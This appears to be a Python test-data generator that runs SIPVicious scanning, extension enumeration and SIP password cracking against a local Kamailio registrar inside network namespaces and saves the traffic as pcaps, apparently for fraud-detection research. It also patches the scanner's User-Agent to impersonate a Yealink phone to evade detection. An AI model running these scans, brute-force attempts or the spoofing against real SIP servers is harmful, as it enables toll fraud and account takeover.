#!/usr/bin/env python3
"""Records SIPVicious (Debian package sipvicious) at a real registrar, kamailio with digest. Usage (as root): fraud_sipvicious.py OUTDIR.

All traffic stays in two network namespaces; about a minute. Accounts 1001 to 1005 exist, others get 404.
- sipvicious-kamailio: svmap on one host, svwar on 1000 to 1030 (and the made-up user that it asks for first), svcrack on
  1001 with 66 words.
- sipvicious-renamed: svwar with a list of names, its User-Agent changed to that of a phone.
"""
import lzma
import os
import shutil
import signal
import subprocess
import sys
import tempfile
import time

from fraud_recorded import CONFIG

ATTACKER, SERVER = "vasvA", "vasvS"
REST = """
	if (is_method("OPTIONS")) { if ($rU == $null || $rU =~ "^100[1-5]$") sl_send_reply("200", "OK"); else sl_send_reply("404", "Not Found"); exit; }
	sl_send_reply("404", "Not Found");
}"""


def sh(command, check=True):
    return subprocess.run(command, shell=True, check=check, capture_output=True, timeout=60)


def net_down():
    for name in (ATTACKER, SERVER):
        sh("ip netns del " + name, False)


def net_up():
    net_down()
    sh(f"ip netns add {ATTACKER}; ip netns add {SERVER}; ip -n {ATTACKER} link add e0 type veth peer name e0 netns {SERVER}")
    for name, address, other in ((ATTACKER, "45.148.10.66", "198.51.100.0/24"), (SERVER, "198.51.100.10", "45.148.10.0/24")):
        sh(f"ip -n {name} link set lo up; ip -n {name} link set e0 up; ip -n {name} addr add {address}/32 dev e0; ip -n {name} route add {other} dev e0 src {address}; "
           f"ip netns exec {name} ethtool -K e0 tx off rx off gso off gro off tso off")


def end(process):
    process.send_signal(signal.SIGTERM)
    try:
        process.wait(5)
    except subprocess.TimeoutExpired:
        process.kill()
        process.wait()


def record(scratch, target, commands):
    with open(scratch + "/cfg", "w") as f:
        f.write(CONFIG.format(p="198.51.100.10", expire=300).replace('\tsl_send_reply("404", "Not Found");\n}', REST))
    run = lambda name, *argv: subprocess.Popen(["ip", "netns", "exec", name, *argv], stdout=subprocess.DEVNULL, stderr=subprocess.DEVNULL,
                                               env={**os.environ, "HOME": scratch, "PYTHONPATH": scratch})
    registrar = run(SERVER, "kamailio", "-f", scratch + "/cfg", "-DD", "-E", "-m", "32", "-M", "8")
    dump = run(SERVER, "tcpdump", "-i", "e0", "-w", scratch + "/pcap", "-U", "-Z", "root", "port 5060")
    time.sleep(2)
    for command in commands:
        try:
            run(ATTACKER, *command).wait(60)
        except subprocess.TimeoutExpired:
            print("too slow:", command)
    time.sleep(0.7)
    end(dump)
    end(registrar)
    with open(scratch + "/pcap", "rb") as f, lzma.open(target, "wb", preset=9 | lzma.PRESET_EXTREME) as g:
        g.write(f.read())


def main(out):
    common = ["-b", "45.148.10.66", "-x", "45.148.10.66"]
    with tempfile.TemporaryDirectory() as scratch:
        # A copy that calls itself a phone.
        shutil.copytree("/usr/share/sipvicious/sipvicious", scratch + "/sipvicious")
        helper = scratch + "/sipvicious/libs/svhelper.py"
        text = open(helper).read().replace("useragent='friendly-scanner'", "useragent='Yealink SIP-T46G 28.83.0.120'")
        open(helper, "w").write(text)
        with open(scratch + "/words", "w") as f:
            f.write("\n".join(["pw%d" % i for i in range(60)] + ["sesame-1001"] + ["q%d" % i for i in range(5)]) + "\n")
        with open(scratch + "/names", "w") as f:
            f.write("\n".join("100 200 1001 admin sales 1002 bob alice test 4000 fax 1005 reception guest john pbx root support demo 300 555 999 700 888".split()) + "\n")
        net_up()
        try:
            record(scratch, out + "/sipvicious-kamailio.pcap.xz",
                   [["svmap", *common, "198.51.100.10"], ["svwar", *common, "-e1000-1030", "198.51.100.10"],
                    ["svcrack", *common, "-u1001", "-d", scratch + "/words", "198.51.100.10"]])
            record(scratch, out + "/sipvicious-renamed.pcap.xz",
                   [["python3", "-c", "from sipvicious.svwar import main; main()", *common, "-d", scratch + "/names", "--force", "198.51.100.10"]])
        finally:
            net_down()


if __name__ == "__main__":
    main(sys.argv[1])
